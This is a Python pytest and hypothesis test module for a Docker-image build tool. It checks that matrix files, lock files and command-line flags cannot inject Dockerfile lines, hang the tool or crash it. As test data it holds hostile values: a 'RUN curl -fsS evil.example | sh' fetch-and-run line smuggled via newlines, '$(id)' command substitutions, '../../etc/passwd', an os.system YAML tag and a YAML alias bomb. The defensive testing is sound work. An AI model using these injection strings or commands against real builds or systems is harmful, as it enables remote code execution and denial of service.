"""Hostile and broken input: the matrix and the command line (docs/hostile-input.md).

The contract, for any input: build.py exits 0, 1 or 2; bad input gets exit 2 with `file:line: message with the
fix`; never a Python traceback; nothing written or deleted outside the folders the command was pointed at; and
no value can add a line to a rendered Dockerfile.

Two property tests generate inputs (hypothesis, derandomized and without an example database, so CI sees the same
examples on every run); then one small example test per hostile class the documentation lists. JSON documents
(lock, catalog, reports, plan files, merge summaries) have their own file: tests/test_hostile_documents.py.

Every command runs as a subprocess with a memory cap and a hang guard (a generous timeout that only a hang reaches:
no test asserts how fast anything is), with DOCKER_HOST pointing at nothing, and with --matrix, --images,
--reports and --catalog in a scratch folder: none of these tests needs a Docker engine or writes into the
repository.
"""
from __future__ import annotations

import copy
import dataclasses
import json
import os
import re
import socket
import subprocess
import tempfile
import textwrap
import threading
from pathlib import Path
from unittest import mock

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from torchimages.build.render import render_files
from torchimages.matrix.load import load_matrix
from torchimages.model import InputError, User
from torchimages.project import DEFAULT_TEMPLATES

from .conftest import FIXTURE_COMPAT, FIXTURE_MATRIX, ROOT
from .hostile_fixtures import (
    CPU_RUNTIME,
    MATRIX_TEXT,
    assert_contract,
    in_scratch,
    make_scratch,
    run_bounded,
)

# Matrices written into tmp_path are checked against the compatibility data beside them.
pytestmark = pytest.mark.usefixtures("compat_beside_tmp_matrix")

BASE_DOCUMENT = yaml.safe_load(MATRIX_TEXT)  # plain dicts and lists: the starting point of every mutation
TEMPLATES = DEFAULT_TEMPLATES
VARIANT_KEYS = ("torch", "cuda", "cudnn", "python", "os", "flavors", "torchvision", "arch_list", "user", "shm_size",
                "size_budget", "deprecated", "allow_unlisted", "aliases", "base")
INJECTED = "RUN curl -fsS evil.example | sh"  # what a hostile value smuggles into a Dockerfile (no '/': file names)


# ----------------------------------------------------------------------------------------------- running build.py

def problem_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("error:")]


# ------------------------------------------------------------------------------- "nothing outside scratch changed"

# templates/ is left out: people edit it while tests run, and no command writes there.
WATCHED_IN_REPOSITORY = ("images", "reports", "catalog", "matrix.yaml", "bases.lock.json")


def tree_state(*tops: Path, skip: Path | None = None) -> dict[str, tuple[int, int] | None]:
    """path -> (mtime_ns, size) of everything under tops (None for a top that does not exist)."""
    state: dict[str, tuple[int, int] | None] = {}
    for top in tops:
        if not top.exists():
            state[str(top)] = None
            continue
        for path in [top, *top.rglob("*")]:
            if skip is not None and (path == skip or skip in path.parents):
                continue
            info = path.lstat()
            state[str(path)] = (info.st_mtime_ns, info.st_size if not path.is_dir() else 0)
    return state


def outside_state(scratch: Path) -> dict:
    """What must not change: the repository's generated folders and inputs, the names at its top, and the
    sentinel files next to the scratch folder."""
    return {
        "repository": tree_state(*(ROOT / name for name in WATCHED_IN_REPOSITORY)),
        "repository top": sorted(os.listdir(ROOT)),
        "next to scratch": tree_state(scratch.parent, skip=scratch),
    }


# --------------------------------------------------------------------------------------- rendered Dockerfile shape

DOCKERFILE_INSTRUCTIONS = {"FROM", "RUN", "CMD", "LABEL", "MAINTAINER", "EXPOSE", "ENV", "ADD", "COPY", "ENTRYPOINT",
                           "VOLUME", "USER", "WORKDIR", "ARG", "ONBUILD", "STOPSIGNAL", "HEALTHCHECK", "SHELL"}
# A value made only of these characters cannot change a Dockerfile's lines, quoting or variable expansion.
INERT_VALUE = re.compile(r"[A-Za-z0-9._:/@+=,*-]*")


def instructions(dockerfile: str) -> list[str]:
    """The Dockerfile's instructions, continuation lines joined; comments and blank lines dropped."""
    found, current = [], None
    for line in dockerfile.split("\n"):  # Docker splits on \n only
        if current is None:
            if not line.strip() or line.lstrip().startswith("#"):
                continue
            current = line
        else:
            current += "\n" + line
        if not line.endswith("\\"):
            found.append(current)
            current = None
    if current is not None:
        found.append(current)
    return found


def shape(dockerfile: str) -> tuple[int, list[tuple[str, int, int]]]:
    """What a value must never change: the number of lines, and per instruction its keyword and how many
    unescaped double quotes and dollar signs it has (a quote in a value ends a LABEL string, a $ expands)."""
    per_instruction = [(text.split(None, 1)[0], len(re.findall(r'(?<!\\)"', text)), len(re.findall(r"(?<!\\)\$", text)))
                       for text in instructions(dockerfile)]
    return dockerfile.count("\n"), per_instruction


def defanged(value):
    """The value with anything that is not plainly inert replaced by 'x': a twin whose Dockerfile has the shape
    the template means, since the template's conditionals look at presence, not content."""
    if isinstance(value, str):
        return value if INERT_VALUE.fullmatch(value) else "x"
    if isinstance(value, tuple):
        return tuple(defanged(item) for item in value)
    if isinstance(value, User):
        return User(defanged(value.name), value.uid)
    if isinstance(value, dict):
        return {key: defanged(item) for key, item in value.items()}
    return value


def defanged_spec(spec):
    return dataclasses.replace(spec, **{field.name: defanged(getattr(spec, field.name))
                                        for field in dataclasses.fields(spec) if field.init})


def assert_dockerfiles_well_formed(rendered: dict[str, bytes], twins: dict[str, bytes], twin_tag: dict[str, str]) -> None:
    """Each Dockerfile has only Dockerfile instructions, and the same shape as its defanged twin's."""
    for relative, content in rendered.items():
        if not relative.endswith("/Dockerfile"):
            continue
        text = content.decode()
        twin_text = twins[twin_tag[relative.split("/")[0]] + "/Dockerfile"].decode()
        for instruction in instructions(text):
            keyword = instruction.split(None, 1)[0]
            assert keyword in DOCKERFILE_INSTRUCTIONS, f"{relative}: a line that is no Dockerfile instruction:\n{instruction}"
        if shape(text) != shape(twin_text):
            lines, twin_lines = text.split("\n"), twin_text.split("\n")
            differing = [(a, b) for a, b in zip(lines, twin_lines, strict=False) if a != b][:5]
            raise AssertionError(f"{relative}: a value changed the Dockerfile's structure ({len(lines)} lines, "
                                 f"{len(twin_lines)} with inert values); first differing lines (rendered, inert):\n"
                                 + "\n".join(f"  {a!r}\n  {b!r}" for a, b in differing))


def assert_renders_well_formed(matrix, matrix_file: str = "matrix.yaml") -> None:
    rendered = render_files(matrix.specs, TEMPLATES, matrix_file, matrix.repository)
    twin_specs = [defanged_spec(spec) for spec in matrix.specs]
    twins = render_files(twin_specs, TEMPLATES, "matrix.yaml", defanged(matrix.repository))
    assert_dockerfiles_well_formed(rendered, twins, {spec.tag: twin.tag for spec, twin in zip(matrix.specs, twin_specs, strict=False)})


def assert_readable_problems(error: InputError) -> None:
    """Every problem names a line and says something, on one line, without repeating megabytes of input."""
    assert error.problems, "an InputError without problems tells the user nothing"
    for problem in error.problems:
        assert isinstance(problem.line, int) and problem.line >= 0, problem
        assert problem.message.strip(), problem
        assert "\n" not in problem.message and "\r" not in problem.message, f"a problem spans lines: {problem.message!r}"
        assert len(problem.message) <= 2000, f"a {len(problem.message)}-character message: {problem.message[:200]!r}..."


# ------------------------------------------------------------------------------------------- generated matrices

NASTY_STRINGS = [
    "", " ", "a\"b", "'", "x\nRUN curl evil | sh", "x\"\nRUN curl evil | sh\n#", "x\\", "x \\", "\t", "\r\n",
    "[/]", "[red]x[/red]", "[bold", "${BASE_IMAGE}", "$(id)", "`id`", "\x00", "\x1b[31m", "\u2028", "\u202e", "\ufeff",
    "日本語", "🔥", "../../etc/passwd", "/etc/passwd", "inf", "-inf", "nan", "1e999g", "-1g", "0", "0g", "0.0001",
    "9" * 400 + "g", "x" * 5000, "2.15.0\n", " 2.15.0", "2.15.0 ", "13.2", "cpu", "runtime", "devel", "root",
    "localhost:99999/ml/pytorch", "Registry.Example.com/ML", "<<", "~", "null", "yes", "*", "|", "| a | b |",
    "2." + "0" * 200 + ".0", "12.0+PTX", "0.0",
]
nasty_strings = st.sampled_from(NASTY_STRINGS) | st.text(max_size=20) | st.text(min_size=200, max_size=3000)
scalars = st.one_of(
    nasty_strings,
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.none(),
)
values = st.recursive(scalars, lambda children: st.lists(children, max_size=3)
                      | st.dictionaries(st.text(max_size=8) | st.sampled_from(VARIANT_KEYS), children, max_size=3),
                      max_leaves=8)


def value_paths(node, prefix=()):
    """The path of every value in the document (its root excluded), e.g. ('variants', 0, 'torch')."""
    children = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, child in children:
        yield prefix + (key,)
        yield from value_paths(child, prefix + (key,))


def container_paths(node, prefix=()):
    """The path of every mapping in the document, the root included: where a key can be added."""
    if isinstance(node, dict):
        yield prefix
    children = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, child in children:
        yield from container_paths(child, prefix + (key,))


def at(document, path):
    for key in path:
        document = document[key]
    return document


@st.composite
def mutated_documents(draw):
    """The real matrix with one to three changes: a value replaced, a key or list item dropped, a key added."""
    document = copy.deepcopy(BASE_DOCUMENT)
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        operation = draw(st.sampled_from(["replace", "replace", "add", "drop"]))
        if operation == "add":
            parent = at(document, draw(st.sampled_from(list(container_paths(document)))))
            key = draw(st.sampled_from(VARIANT_KEYS + ("registry", "defaults", "variants")) | st.text(max_size=10))
            parent[key] = draw(values)
            continue
        paths = list(value_paths(document))
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        parent = at(document, path[:-1])
        if operation == "replace":
            parent[path[-1]] = draw(values)
        else:
            del parent[path[-1]]
    return document


def dump(document) -> str:
    return yaml.safe_dump(document, allow_unicode=True, sort_keys=False, width=10**6)


@st.composite
def merge_key_matrices(draw):
    """A matrix whose second variant is the first one merged in with `<<: *anchor`, plus a generated key."""
    key = draw(st.sampled_from(VARIANT_KEYS) | st.text(max_size=8))
    override = textwrap.indent(dump({key: draw(values)}), "    ")
    flavors = "" if key == "flavors" else "    flavors: [devel]\n"
    return (f"registry: localhost:5000/ml/pytorch\ndefaults: &defaults\n  python: \"3.11\"\n  os: debian12\n"
            f"variants:\n  - &cpu\n    torch: 2.13.0\n    cuda: cpu\n    flavors: [runtime]\n"
            f"  - <<: *cpu\n{flavors}{override}")


YAML_DAMAGE = ["\t", ": ", "- ", "[", "]", "{", "}", "&a ", "*a", "*nope", "<<: *a\n", "? ", "|\n", ">\n", "\"", "'",
               "!!python/object/apply:os.system ['id']", "!!binary AAAA", "%YAML 1.1\n---\n", "---\n", "...\n",
               "\ufeff", "#", "\x85", "\x00", "\x1f", "\x7f", "\x07", "\ufffe", "&a [*a]", "<<: 5\n"]


@st.composite
def damaged_texts(draw):
    """A mutated matrix with YAML syntax spliced in somewhere: tabs, anchors, tags, stray brackets, documents."""
    text = dump(draw(mutated_documents()))
    position = draw(st.integers(min_value=0, max_value=len(text)))
    snippet = draw(st.sampled_from(YAML_DAMAGE) | st.text(max_size=5))
    return text[:position] + snippet + text[position:]


hostile_matrix_texts = st.one_of(mutated_documents().map(dump), merge_key_matrices(), damaged_texts())


# ------------------------------------------------------------------------------------- property: the matrix loader

@settings(max_examples=200, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example])
@given(matrix_text=hostile_matrix_texts)
@example(matrix_text=MATRIX_TEXT)
def test_matrix_loader_gives_a_matrix_or_an_input_error(matrix_text):
    """Any YAML text: load_matrix returns a Matrix or raises InputError, nothing else; a Matrix it returns renders
    Dockerfiles of the template's own shape."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "matrix.yaml"
        path.write_text(matrix_text, encoding="utf-8")
        try:
            matrix = load_matrix(path, FIXTURE_COMPAT)
        except InputError as error:
            assert_readable_problems(error)
            return
    assert_renders_well_formed(matrix)


# ------------------------------------------------------------------------------------- property: the command line

selectors = st.sampled_from(["*", CPU_RUNTIME, "2.13.0-cpu-*", "[/]", "[", "[!]", "]", "**", "?", "[red]x", "-x",
                             "*[", "../*", "2.1[3-5].0-*"]) \
    | st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=12)
shard_counts = st.integers().map(str) | st.sampled_from(["0", "-1", "1e3", "", " 3", "\u0663", "3.0", "0x10",
                                                         "99999999999999999999", str(2**63), "1" * 400])
COMMANDS = ("list", "list json", "render --check", "render", "plan", "catalog")


@st.composite
def cli_invocations(draw):
    """(matrix text, the command's own arguments): scratch paths are added by the test."""
    matrix_text = draw(st.just(MATRIX_TEXT) | hostile_matrix_texts)
    command = draw(st.sampled_from(COMMANDS))
    chosen = draw(st.lists(selectors, max_size=2))
    if command == "list":
        return matrix_text, ["list", *chosen]
    if command == "list json":
        return matrix_text, ["list", "--format", "json", *chosen]
    if command == "plan":
        return matrix_text, ["plan", "--shards", draw(shard_counts), "--format", draw(st.sampled_from(["json", "github"])),
                             *chosen]
    if command == "catalog":
        return matrix_text, ["catalog", "--format", draw(st.sampled_from(["markdown", "json"]))]
    return matrix_text, command.split()


@settings(max_examples=15, deadline=None, derandomize=True, database=None, report_multiple_bugs=False,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example])
@given(invocation=cli_invocations())
@example(invocation=(MATRIX_TEXT, ["plan", "--shards", "3", "--format", "github"]))
@example(invocation=(MATRIX_TEXT, ["render"]))
def test_commands_keep_the_contract_on_any_input(invocation):
    """list, render, plan and catalog on generated matrices and flags: exit 0/1/2, no traceback, and nothing
    written or deleted outside the scratch folder."""
    matrix_text, command = invocation
    with tempfile.TemporaryDirectory() as folder:
        scratch = make_scratch(Path(folder), matrix_text)
        if command[0] == "catalog":
            command = [*command, "--catalog", str(scratch / "catalog")]
        before = outside_state(scratch)
        result = run_bounded(*in_scratch(scratch, *command), isolated=True)
        after = outside_state(scratch)
    assert_contract(result)
    assert before == after, f"build.py {command} changed files outside its scratch folder"


# ==================================================================================================================
# One example test per hostile class (docs/hostile-input.md)
# ==================================================================================================================

def variant_matrix(tmp_path: Path, variant: str, registry: str = "localhost:5000/ml/pytorch") -> Path:
    """A matrix with the real defaults and one variant (YAML, as written in a variants list)."""
    path = tmp_path / "matrix.yaml"
    path.write_text(f"registry: {registry}\n"
                    "defaults:\n  python: \"3.11\"\n  os: debian12\n  shm_size: 8g\n  user: {name: torch, uid: 1000}\n"
                    "variants:\n" + textwrap.indent(textwrap.dedent(variant).strip("\n"), "  ") + "\n")
    return path


CPU_VARIANT = "- torch: 2.13.0\n  cuda: cpu\n  flavors: [runtime, devel]\n"
GPU_VARIANT = "- torch: 2.14.1\n  torchvision: 0.29.1\n  cuda: \"13.0\"\n  cudnn: 9\n  flavors: [runtime]\n"


def assert_refused(path: Path, *words: str, at_line_of: str | None = None) -> InputError:
    """load_matrix refuses the file with problems that name it and a line, and mention each of words; with
    at_line_of, a problem names the line where that text is written."""
    with pytest.raises(InputError) as raised:
        load_matrix(path)
    assert_readable_problems(raised.value)
    text = str(raised.value)
    assert all(problem.file == str(path) for problem in raised.value.problems), text
    for word in words:
        assert word in text, f"{word!r} not in:\n{text}"
    if at_line_of is not None:
        written = path.read_text()
        line = written[:written.index(at_line_of)].count("\n") + 1
        assert line in {problem.line for problem in raised.value.problems}, f"no problem at line {line}:\n{text}"
    return raised.value


def rendered_lines(images: Path) -> list[str]:
    return [line for dockerfile in images.rglob("Dockerfile") for line in dockerfile.read_text().splitlines()]


# --------------------------------------------------------------------------------- folders the tool did not make

def test_render_does_not_clean_a_folder_it_did_not_make(tmp_path):
    """`render --images DIR` at someone's folder: what was there stays (the tool cleans only its own folder)."""
    scratch = make_scratch(tmp_path)
    images = scratch / "images"
    (images / "holiday-photos").mkdir(parents=True)
    (images / "holiday-photos" / "beach.jpg").write_bytes(b"\xff\xd8 not really a jpeg")
    (images / "notes.txt").write_text("my notes\n")
    result = run_bounded(*in_scratch(scratch, "render"))
    assert_contract(result, 0, 2)
    assert (images / "holiday-photos" / "beach.jpg").read_bytes() == b"\xff\xd8 not really a jpeg"
    assert (images / "notes.txt").read_text() == "my notes\n"


def test_render_still_cleans_stale_tags_from_its_own_folder(tmp_path):
    """The other side of the marker: a folder render made is still kept in step with the matrix."""
    scratch = make_scratch(tmp_path)
    assert_contract(run_bounded(*in_scratch(scratch, "render")), 0)
    cpu_only = variant_matrix(scratch, CPU_VARIANT)
    assert_contract(run_bounded(*in_scratch(scratch, "render", matrix=cpu_only)), 0)
    tags = sorted(path.name for path in (scratch / "images").iterdir() if path.is_dir())
    assert tags == ["2.13.0-cpu-devel", "2.13.0-cpu-runtime"]


# -------------------------------------------------------------------------------------------- Dockerfile injection

def test_registry_with_quote_and_newline_cannot_add_a_dockerfile_line(tmp_path):
    path = variant_matrix(tmp_path, CPU_VARIANT, registry=json.dumps(f'localhost:5000/x"\n{INJECTED}\n#'))
    try:
        matrix = load_matrix(path)
    except InputError as error:
        assert_readable_problems(error)
        assert any(problem.line == 1 for problem in error.problems), str(error)  # the registry: line
        return
    assert_renders_well_formed(matrix)


def test_deprecated_with_newline_cannot_add_a_dockerfile_line(tmp_path):
    path = variant_matrix(tmp_path, CPU_VARIANT + f"  deprecated: {json.dumps('use 2.15.0' + chr(10) + INJECTED)}\n")
    try:
        matrix = load_matrix(path)
    except InputError as error:
        assert_readable_problems(error)
        return
    assert_renders_well_formed(matrix)


def test_matrix_file_name_with_newline_cannot_add_a_dockerfile_line(tmp_path):
    """Dockerfiles name the matrix file they came from: its name must not be able to start a line."""
    scratch = make_scratch(tmp_path)
    hostile = scratch / f"matrix\n{INJECTED}.yaml"
    hostile.write_text(MATRIX_TEXT)
    result = run_bounded(*in_scratch(scratch, "render", matrix=hostile))
    assert_contract(result, 0, 2)
    assert not any(line.startswith("RUN curl") for line in rendered_lines(scratch / "images"))


def lock_document(digest: str) -> dict:
    """bases.lock.json pinning the CPU rows' base (debian:bookworm) to digest."""
    return {"schema": 1, "bases": {"debian:bookworm": {
        "image": "debian:bookworm", "digest": digest, "image_id": "sha256:" + "c" * 64, "source": "registry",
        "note": "", "resolved_at": "2026-01-01T00:00:00Z"}}}


def render_with_lock(tmp_path: Path, digest: str) -> tuple[subprocess.CompletedProcess, Path]:
    scratch = make_scratch(tmp_path)
    (scratch / "bases.lock.json").write_text(json.dumps(lock_document(digest)))  # render reads it beside the matrix
    return run_bounded(*in_scratch(scratch, "render")), scratch


def test_lock_digest_with_newline_cannot_add_a_dockerfile_line(tmp_path):
    result, scratch = render_with_lock(tmp_path, "sha256:" + "a" * 64 + "\n" + INJECTED)
    assert_contract(result, 0, 2)
    assert not any(line.startswith("RUN curl") for line in rendered_lines(scratch / "images"))
    if result.returncode == 2:
        assert "bases.lock.json" in result.stderr


@pytest.mark.parametrize("digest", ["md5:0123", "latest", "sha256:xyz", "sha256:" + "A" * 64, "sha256:" + "a" * 63])
def test_lock_digest_that_is_not_sha256_is_refused(tmp_path, digest):
    result, scratch = render_with_lock(tmp_path, digest)
    assert_contract(result, 2)
    assert "bases.lock.json" in result.stderr
    assert not (scratch / "images").exists() or not rendered_lines(scratch / "images")


# ------------------------------------------------------------------------------ files that never end or never open

def billion_laughs(levels: int = 12, width: int = 10) -> str:
    """A document of a few hundred bytes whose aliases expand to width**levels nodes."""
    lines = ['registry: &a0 "lol"']
    for level in range(1, levels + 1):
        lines.append(f"l{level}: &a{level} [{', '.join(f'*a{level - 1}' for _ in range(width))}]")
    lines.append(f"variants:\n  - torch: *a{levels}\n    cuda: *a{levels}\n    flavors: *a{levels}")
    return "\n".join(lines) + "\n"


def test_yaml_alias_bomb_is_refused(tmp_path):
    scratch = make_scratch(tmp_path, billion_laughs())
    result = run_bounded(*in_scratch(scratch, "list"), isolated=True)
    assert_contract(result, 2)
    assert str(scratch / "matrix.yaml") in result.stderr


def test_yaml_alias_bomb_is_refused_by_the_loader(tmp_path):
    """The same in-process: the loader refuses it before any value is read (no exponential message either)."""
    path = tmp_path / "matrix.yaml"
    path.write_text(billion_laughs(levels=7))  # 10**7 nodes: big enough to be refused, small enough not to hurt
    assert_refused(path)


def test_matrix_from_dev_zero_is_refused():
    result = run_bounded("--matrix", "/dev/zero", "--images", "/nonexistent/images", "--reports", "/nonexistent/reports",
                         "list", isolated=True)
    assert_contract(result, 2)
    assert "/dev/zero" in result.stderr


def test_matrix_that_is_a_fifo_is_refused(tmp_path):
    """Opening a FIFO for reading blocks until a writer comes: none ever will."""
    scratch = make_scratch(tmp_path)
    fifo = scratch / "matrix.fifo"
    os.mkfifo(fifo)
    result = run_bounded(*in_scratch(scratch, "list", matrix=fifo), isolated=True)
    assert_contract(result, 2)
    assert str(fifo) in result.stderr


class SilentEngine:
    """A unix socket that accepts connections and never answers: a wedged dockerd."""

    def __init__(self, folder: Path):
        self.path = folder / "docker.sock"
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(str(self.path))
        self.server.listen(16)
        self.held: list[socket.socket] = []
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:  # closed
                return
            self.held.append(connection)

    def close(self):
        self.server.close()
        for connection in self.held:
            connection.close()


def test_engine_that_accepts_and_never_answers_is_an_error_not_a_hang():
    with tempfile.TemporaryDirectory(prefix="ti-", dir="/tmp") as name:  # a unix socket path must stay under 108 bytes
        folder = Path(name)
        engine = SilentEngine(folder)
        try:
            scratch = make_scratch(folder)
            # In this process, with the ping's bound cut to a second: the product's 10 s is the same code path.
            with mock.patch("torchimages.peers.engine.PING_TIMEOUT_S", 1):
                result = run_bounded(*in_scratch(scratch, "test", CPU_RUNTIME),
                                     env={"DOCKER_HOST": f"unix://{engine.path}"})
        finally:
            engine.close()
    assert_contract(result, 1, 2)
    assert "DOCKER_HOST" in result.stderr or str(engine.path) in result.stderr, result.stderr


# ------------------------------------------------------------------------- markup, encodings, files and folders

def test_rich_markup_in_a_matrix_value_is_printed_as_written(tmp_path):
    scratch = make_scratch(tmp_path, MATRIX_TEXT.replace("torch: 2.13.0", "torch: '[/]'"))
    result = run_bounded(*in_scratch(scratch, "list"), isolated=True)
    assert_contract(result, 2)
    assert "[/]" in result.stderr


def test_rich_markup_in_a_selector_is_printed_as_written(tmp_path):
    scratch = make_scratch(tmp_path)
    result = run_bounded(*in_scratch(scratch, "list", "[/]"))
    assert_contract(result, 2)
    assert "'[/]'" in result.stderr or "[/]" in result.stderr


def test_matrix_that_is_not_utf8_is_refused_naming_its_line(tmp_path):
    scratch = make_scratch(tmp_path, MATRIX_TEXT.encode().replace(b"debian12", b"debian\xff12"))
    result = run_bounded(*in_scratch(scratch, "list"), isolated=True)
    assert_contract(result, 2)
    line = MATRIX_TEXT[:MATRIX_TEXT.index("debian12")].count("\n") + 1
    assert f"{scratch / 'matrix.yaml'}:{line}:" in result.stderr


def test_matrix_path_that_is_a_folder_is_refused(tmp_path):
    scratch = make_scratch(tmp_path)
    result = run_bounded(*in_scratch(scratch, "list", matrix=scratch))
    assert_contract(result, 2)
    assert str(scratch) in result.stderr


def test_images_path_that_is_a_file_is_refused(tmp_path):
    scratch = make_scratch(tmp_path)
    (scratch / "images").write_text("a file where the images folder belongs\n")
    result = run_bounded(*in_scratch(scratch, "render"))
    assert_contract(result, 2)
    assert (scratch / "images").read_text() == "a file where the images folder belongs\n"


def test_images_path_that_is_a_file_is_refused_by_catalog(tmp_path):
    """catalog writes images/README.md: a file where that folder belongs stays as it is."""
    scratch = make_scratch(tmp_path)
    (scratch / "images").write_text("a file where the images folder belongs\n")
    result = run_bounded(*in_scratch(scratch, "catalog", "--catalog", str(scratch / "catalog")))
    assert_contract(result, 2)
    assert (scratch / "images").read_text() == "a file where the images folder belongs\n"


def test_catalog_path_that_is_a_file_is_refused(tmp_path):
    """`--catalog catalog/catalog.json` (the file, not its folder) is an easy slip: taking it for an empty catalog
    would rewrite images/README.md as "nothing is published"."""
    scratch = make_scratch(tmp_path)
    (scratch / "catalog").write_text("a file where the catalog folder belongs\n")
    result = run_bounded(*in_scratch(scratch, "catalog", "--catalog", str(scratch / "catalog")))
    assert_contract(result, 2)
    assert (scratch / "catalog").read_text() == "a file where the catalog folder belongs\n"


def test_reports_path_that_is_a_file_is_left_alone(tmp_path):
    """plan reads past build times from the reports folder: a file there is refused as every command refuses it
    (planning without the history would deal the shards silently unbalanced)."""
    scratch = make_scratch(tmp_path)
    (scratch / "reports").write_text("a file where the reports folder belongs\n")
    result = run_bounded(*in_scratch(scratch, "plan", "--shards", "2"))
    assert_contract(result, 2)
    assert "a file where the reports folder" in result.stderr
    assert (scratch / "reports").read_text() == "a file where the reports folder belongs\n"


# --------------------------------------------------------------------------------- corrupt or wrongly shaped YAML

@pytest.mark.parametrize("text", [
    "variants: [\n", "registry: a\n\tdefaults: {}\n", "registry: 'unclosed\n", "- a\n- b\n", "just a string\n",
    "registry: x\nvariants: 5\n", "registry: x\nvariants:\n  - 5\n  - [a]\n", "registry: x\nregistry: y\nvariants: []\n",
    "--- a\n--- b\n", "registry: !!python/object/apply:os.system ['id']\n", "\ufeff\ufeff: x\n", "",
    "registry: x\x1f\n", "registry: \x00\n", "variants: \ufffe\n",  # characters YAML does not allow in a file
])
def test_corrupt_or_wrongly_shaped_matrix_is_refused_naming_its_line(tmp_path, text):
    path = tmp_path / "matrix.yaml"
    path.write_text(text)
    assert_refused(path)


COMPAT_TEXT = FIXTURE_COMPAT.read_text()


@pytest.mark.parametrize("compat", [
    "[]\n", "torch: 5\n", COMPAT_TEXT.replace("torch:\n", "torch: [a, b]\nold_torch:\n", 1),
    COMPAT_TEXT.replace("flavors:", "flavours:", 1), COMPAT_TEXT + "\n\x00", COMPAT_TEXT[: len(COMPAT_TEXT) // 2] + "\n  [",
])
def test_corrupt_or_wrongly_shaped_compat_data_is_refused(tmp_path, compat):
    """compat.yaml is edited by hand too: a damaged one is an input error naming it, not a crash."""
    compat_path = tmp_path / "compat.yaml"
    compat_path.write_text(compat)
    with pytest.raises(InputError) as raised:
        load_matrix(FIXTURE_MATRIX, compat_path)
    assert_readable_problems(raised.value)
    assert any(problem.file == str(compat_path) for problem in raised.value.problems), str(raised.value)


def with_value(variant: str, key: str, value: str) -> str:
    """variant (YAML text) with key set to value: its line replaced when it has one, else a line added."""
    replaced = re.sub(rf"(?m)^(\s*-?\s*){key}: .*$", lambda m: f"{m.group(1)}{key}: {value}", variant, count=1)
    return replaced if replaced != variant else variant + f"  {key}: {value}\n"


@pytest.mark.parametrize("value", ["[[runtime]]", "{a: {b: c}}", "99999999999999999999999", "true", "null", "-1",
                                   ".inf", "'[/]'", "''"])
def test_every_variant_key_survives_a_value_of_the_wrong_shape(tmp_path, value):
    """Each variant key given a nested list, a mapping, a huge number, a boolean, null...: problems, never a crash."""
    for key in VARIANT_KEYS:
        path = variant_matrix(tmp_path, with_value(GPU_VARIANT, key, value))
        try:
            load_matrix(path)
        except InputError as error:
            assert_readable_problems(error)


# ------------------------------------------------------------------------------------- numbers and nesting

@pytest.mark.parametrize("size", ["inf", "-inf", "nan", ".inf", "1e999g", "9" * 400 + "g", "infg", "1e309"])
def test_size_that_is_not_a_finite_number_is_refused(tmp_path, size):
    path = variant_matrix(tmp_path, CPU_VARIANT + f"  shm_size: {size}\n")
    assert_refused(path, "shm_size")


@pytest.mark.parametrize("key", ["cudnn", "base", "torch", "flavors", "user", "unknown_key"])
def test_long_value_is_quoted_briefly(tmp_path, key):
    """A 100 000-character value (or nested mapping): the problem says what is wrong without repeating it."""
    huge = json.dumps({"a": ["x" * 100_000]})
    path = variant_matrix(tmp_path, with_value(CPU_VARIANT.replace("cuda: cpu", "cuda: \"13.0\"\n  cudnn: 9"), key, huge))
    assert_refused(path)


def test_unhashable_yaml_key_is_refused(tmp_path):
    path = variant_matrix(tmp_path, CPU_VARIANT + "  ? [a, b]\n  : 1\n  ? {c: d}\n  : 2\n")
    assert_refused(path)


def test_list_inside_a_list_where_names_belong_is_refused(tmp_path):
    path = variant_matrix(tmp_path, "- torch: 2.13.0\n  cuda: cpu\n  flavors: [[runtime], {devel: 1}]\n")
    assert_refused(path, "flavor")


@pytest.mark.parametrize(("text", "line"), [
    ("registry: lökâl\n" * 19 + "defaults:\n  os: x\x00y\n", 21),  # libyaml counts its offset in UTF-8 bytes
    ("registry: x\nvariants: [", 2),  # libyaml marks the end of a text without a last newline a line below it
], ids=["forbidden character after non-ASCII lines", "unclosed at the end"])
def test_a_syntax_problem_names_its_own_line(tmp_path, text, line):
    """Found by comparing PyYAML's own reader with libyaml's on generated texts (issue 27: libyaml reads them)."""
    path = tmp_path / "matrix.yaml"
    path.write_text(text)
    error = assert_refused(path)
    assert [problem.line for problem in error.problems] == [line], str(error)


def test_deeply_nested_yaml_is_refused(tmp_path):
    path = variant_matrix(tmp_path, CPU_VARIANT + "  aliases: " + "[" * 20_000 + "]" * 20_000 + "\n")
    assert_refused(path)


@pytest.mark.parametrize("shards", [str(10**12), str(2**63), "9" * 30])
def test_huge_shard_count_is_refused_or_bounded(tmp_path, shards):
    scratch = make_scratch(tmp_path)
    result = run_bounded(*in_scratch(scratch, "plan", "--shards", shards))
    assert_contract(result, 0, 2)
    assert len(result.stdout) < 2**20, "a plan bigger than the matrix could ever need"


# --------------------------------------------------------------------------------------- problems reported at once

def test_all_problems_in_one_variant_are_reported_at_once(tmp_path):
    path = variant_matrix(tmp_path, "- torch: two.fifteen\n  cuda: cpu\n  flavors: [runtim]\n  shm_size: lots\n"
                                    "  user: {name: Torch User, uid: 1000}\n  size_budget: huge\n")
    error = assert_refused(path, "torch", "runtim", "shm_size", "user", "size_budget")
    assert len({problem.line for problem in error.problems}) >= 5, str(error)


def test_gpus_flag_is_checked_before_the_engine(tmp_path):
    scratch = make_scratch(tmp_path)
    result = run_bounded(*in_scratch(scratch, "test", "--gpus", "x", CPU_RUNTIME))
    assert_contract(result, 2)
    assert "--gpus" in result.stderr and "DOCKER_HOST" not in result.stderr, result.stderr


@pytest.mark.parametrize("flags, says", [
